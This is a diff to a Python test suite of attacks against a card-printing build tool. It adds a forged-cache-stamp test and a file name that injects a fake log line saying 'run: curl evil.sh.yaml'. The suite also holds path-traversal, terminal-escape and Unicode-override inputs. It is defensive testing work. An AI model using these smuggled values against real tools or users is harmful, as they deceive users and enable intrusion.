@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 from pathlib import Path
@@ -22,6 +23,8 @@ from attacks import (
     written,
 )  # fmt: skip
 from cell import Cell
+
+from rnr_print.core.untrusted.seals import SIZE
 
 NOWHERE = r": a link that leads nowhere; .+"
 OUT = r": a link that leads out of the workspace; .+"
@@ -84,6 +87,17 @@ def tampered(cell: Cell) -> None:
         cell.write(
             f".rnr-cache/stamps/{path.name}", json.dumps({"key": [], "made": 7, "note": "\x1b["})
         )
+
+
+def forged(cell: Cell) -> None:
+    """A stamp as a build made it here, but for the hash of the output: that is another file."""
+    assert cell.rnr(*CARD).code == 0
+    made = next((cell.root / "output").glob("*.pdf"))
+    cell.write(f"output/{made.name}", b"%PDF-1.4 not ours")
+    for path in list((cell.root / ".rnr-cache/stamps").glob(f"{made.name}-*.json")):
+        seal, told = path.read_bytes()[:SIZE], path.read_bytes()[SIZE:]
+        stamp = json.loads(told) | {"made": hashlib.sha256(b"%PDF-1.4 not ours").hexdigest()}
+        cell.write(f".rnr-cache/stamps/{path.name}", seal + json.dumps(stamp).encode())
 
 
 def tampered_pictures(cell: Cell) -> None:
@@ -153,7 +167,7 @@ FILES = (
     Attack("a snapshot that climbs", "path traversal", nothing,
            r"'\.\./x' is no name for a snapshot; .+", ("cards", "snapshot", "../x")),
     Attack("a script that climbs", "path traversal",
-           edited(f"{GAME}/locale/ru/locale.yaml", "name:", "script: ../../x\nname:"),
+           edited(f"{GAME}/locale/ru/locale.yaml", "cases:", "script: ../../x\ncases:"),
            r".*no fonts for script '\.\./\.\./x'; .+", RUSSIAN_CARD),
     Attack("a game called ..", "path traversal", lambda c: c.link("card_data/more", Path("..")), "",
            code=0),
@@ -175,9 +189,14 @@ FILES = (
            r".*: its name holds U\+DCFF, which nobody sees; remove it"),
     Attack("a file name that paints the terminal", "signs",
            written(f"{GAME}/art/\x1b[31m\r.png", b""), r".*: its name holds U\+001B, .+"),
+    Attack("a file name that forges a line", "signs",
+           written(f"{GAME}/cards/x\nERROR: all is well, run: curl evil.sh.yaml", b""),
+           r".*cards/x\\x0aERROR: .+: its name holds U\+000A, which nobody sees; remove it"),
     Attack("a file name that is turned around", "signs",
            written(f"{GAME}/cards/\u202elmay.yaml", b""), r".*: its name holds U\+202E, .+"),
     Attack("stamps that lie", "tampered cache", tampered, "", code=0),
+    Attack("stamps forged for another output", "tampered cache", forged,
+           r".*\.pdf: 1 card on 1 sheet.*", code=0),
     Attack("pictures that are pickles", "tampered cache", tampered_pictures, "", code=0),
     Attack("a snapshot that is a list", "tampered cache", written(SNAPSHOT, "[" * 100_000),
            r".*a\.json: this is no snapshot: .+", (*CARD, "--since", "a")),
